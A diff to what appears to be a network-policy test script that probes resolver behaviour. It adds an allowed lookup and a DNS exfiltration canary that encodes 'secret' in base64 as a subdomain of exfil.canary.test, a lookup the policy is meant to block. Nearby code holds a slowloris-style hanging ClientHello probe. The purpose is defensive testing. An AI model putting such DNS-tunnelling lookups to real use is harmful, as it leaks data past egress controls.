@@ -98,6 +98,12 @@ def main():
     out("dns_aaaa", **dns(28))
     out("dns_txt", **dns(16))
     out("getaddrinfo", addrs=sorted({a[4][0] for a in socket.getaddrinfo("upstream.test", 443)}))
+    # Names through the real resolver path: one a policy allows, one that
+    # only carries data out (the lookup must never be made).
+    out("dns_allowed", **dns(1, "api.test"))
+    out("dns_exfil", **dns(1, "c2VjcmV0.exfil.canary.test"))
+    out("allowed_by_dns", text=status(tls_get("api.test", 443, "api.test",
+                                              "api.test")))
     got, how, took = plain(UP, 443, b"\x16\x03\x01", wait=30)  # a ClientHello that never ends
     out("slowloris", text=got, how=how, took=round(took, 1))
 
